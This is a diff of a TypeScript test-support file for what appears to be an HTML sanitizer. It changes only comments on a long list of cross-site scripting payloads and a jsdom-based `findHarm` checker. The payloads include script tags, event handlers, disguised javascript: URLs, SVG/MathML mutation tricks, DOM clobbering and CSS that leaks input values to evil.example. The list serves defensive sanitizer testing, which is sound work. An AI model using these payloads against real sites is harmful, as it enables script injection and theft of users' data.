@@ -1,6 +1,9 @@
 import { JSDOM, VirtualConsole } from 'jsdom';
 
-/** Ways to smuggle script, style, frames, forms or foreign pictures into a text. Each sets `pwned` or reaches elsewhere. */
+/**
+ * Attempts to inject scripts, styles, frames, forms or foreign images. Each sets `pwned` or loads something from
+ * elsewhere.
+ */
 export const hostileHtml: string[] = [
   '<script>pwned()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -85,7 +88,7 @@ export const hostileHtml: string[] = [
   '"><script>pwned()</script>',
   "'-pwned()-'",
   '{{constructor.constructor("pwned()")()}}',
-  // Handlers of every kind, and ways to write them that a careless reader misses.
+  // Event handlers of every kind, and unusual ways to write them.
   '<details open ontoggle=pwned()><summary>x</summary></details>',
   '<p onpointerrawupdate="pwned()">x</p>',
   '<a href="https://good.example" onfocusin="pwned()" autofocus>x</a>',
@@ -103,7 +106,7 @@ export const hostileHtml: string[] = [
   '<dialog open onclose=pwned()><form method=dialog><button>x</button></form></dialog>',
   '<p popover id=pop onbeforetoggle=pwned()>x</p><button popovertarget=pop>x</button>',
   '<search onsearch=pwned()><input type=search onsearch=pwned()></search>',
-  // Addresses that run, dressed up.
+  // Disguised script URLs.
   '<a href="javascript&colon;pwned()">x</a>',
   '<a href="javascript&#x3A;pwned()">x</a>',
   '<a href="&#0000106&#0000097&#0000118&#0000097script:pwned()">x</a>',
@@ -127,7 +130,7 @@ export const hostileHtml: string[] = [
   '<a href="\\\\evil.example\\share">x</a>',
   '<a href="https://good.example" download target="_top" rel="opener" referrerpolicy="unsafe-url">x</a>',
   '<area shape=default href="javascript:pwned()"><map name=m><area href="javascript:pwned()"></map>',
-  // Other languages inside this one.
+  // SVG and MathML.
   '<svg><set attributeName="onmouseover" to="pwned()"/></svg>',
   '<svg><a><animate attributeName="href" values="javascript:pwned()"/><text>x</text></a></svg>',
   '<svg><use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>pwned()</script></svg>#a"/></svg>',
@@ -141,7 +144,7 @@ export const hostileHtml: string[] = [
   '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:pwned()">x</maction></math>',
   '<math><mi><p onclick=pwned()>x</p></mi></math>',
   '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>pwned()</script></annotation-xml></semantics></math>',
-  // What one parser reads otherwise than the next.
+  // Markup that parsers read differently.
   '<svg><p><style><g title="</style><img src onerror=pwned()>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
   '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src onerror=pwned()>">',
@@ -174,7 +177,7 @@ export const hostileHtml: string[] = [
   '\uff1cscript\uff1epwned()\uff1c/script\uff1e',
   '&amp;lt;img src=x onerror=pwned()&amp;gt;',
   '&#60;script&#62;pwned()&#60;/script&#62;',
-  // Style that covers, loads or runs.
+  // Styles that cover, load or run something.
   '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</p>',
   '<p style="behavior:url(#default#time2)" onbegin=pwned()>x</p>',
   '<p style="-moz-binding:url(https://evil.example/x.xml#a)">x</p>',
@@ -185,7 +188,7 @@ export const hostileHtml: string[] = [
   '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
   '<font color="red" face="x" size="7">x</font><center>x</center><blink>x</blink>',
   '<p class="veil dialog" data-state="open" aria-hidden="true" hidden inert>x</p>',
-  // What loads from elsewhere, or leads away.
+  // Elements that load from elsewhere or navigate away.
   '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
   '<img src="/files/01890000-0000-7000-8000-000000000000/..%2f..%2fapi" loading=lazy onerror=pwned()>',
   '<img src="\\\\evil.example\\pixel.gif">',
@@ -213,18 +216,18 @@ export const hostileHtml: string[] = [
   '<audio autoplay src="https://evil.example/x.mp3" oncanplay=pwned()></audio>',
   '<canvas id=c></canvas><progress value=1 onclick=pwned()></progress><meter></meter>',
   '<x-pwned onconnected=pwned()><p slot=x>x</p></x-pwned>',
-  // Names that stand in the way of the page's own.
+  // Names that shadow properties of the page.
   '<a id="createElement" name="location" href="https://good.example">x</a>',
   '<p id="__proto__" name="constructor">x</p>',
   '<img name="getElementById" id="cookie" src="x">',
-  // Tables, which browsers repair in ways of their own.
+  // Tables, which browsers repair in different ways.
   '<table><tr><td><table><tr><td onclick=pwned()>x</td></tr></table></td></tr></table>',
   '<table><img src=x onerror=pwned()><tr><td>x</td></tr></table>',
   '<table><tr><script>pwned()</script><td>x</td></tr></table>',
   '<table style="position:fixed" width="100000"><colgroup onclick=pwned()><col span=9></colgroup><td>x</td></table>',
   '<td colspan="1000000000" rowspan="1000000000" onclick=pwned()>x</td>',
   '<th scope="col" abbr="x" headers="y" onclick=pwned()>x</th>',
-  // Texts that change their meaning when they are read, written and read again.
+  // Markup that changes its meaning when it is serialized and parsed again.
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()></style>',
   '<math><mtext><table><mglyph><style><math href=javascript:pwned()>x</math></style></mglyph></table></mtext></math>',
   '<svg><style>&lt;/style&gt;&lt;img src=x onerror=pwned()&gt;</style></svg>',
@@ -286,14 +289,14 @@ const attributes: Record<string, RegExp> = {
   'td rowspan': /.*/s,
 };
 
-// A console of its own, so that broken style sheets in the samples are not reported.
+// A separate console, so that broken style sheets in the samples are not reported.
 const parser = new new JSDOM('', { virtualConsole: new VirtualConsole() }).window.DOMParser();
 
-/** What a browser would find in this HTML that does not belong there; empty for harmless HTML. */
+/** Returns everything in this HTML that is not allowed, as a browser parses it; empty for harmless HTML. */
 export function findHarm(html: string): string[] {
   const document = parser.parseFromString(`<!doctype html><body><div id="here">${html}</div>`, 'text/html');
   const harm: string[] = [];
-  if (document.body.children.length !== 1) harm.push('it leaves its place');
+  if (document.body.children.length !== 1) harm.push('it leaves its container');
   for (const element of document.querySelectorAll('#here *')) {
     const tag = element.tagName.toLowerCase();
     if (!tags.has(tag)) harm.push(`<${tag}>`);
@@ -304,7 +307,7 @@ export function findHarm(html: string): string[] {
   return harm;
 }
 
-/** What a word processor puts on the clipboard. */
+/** HTML that a word processor puts on the clipboard. */
 export const wordPaste = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Word 15">
 <style><!-- p.MsoNormal {margin:0cm;} --></style><!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head>
 <body lang=EN-US><!--StartFragment--><h1>Plan</h1><h3 style='color:red'>Week one</h3>
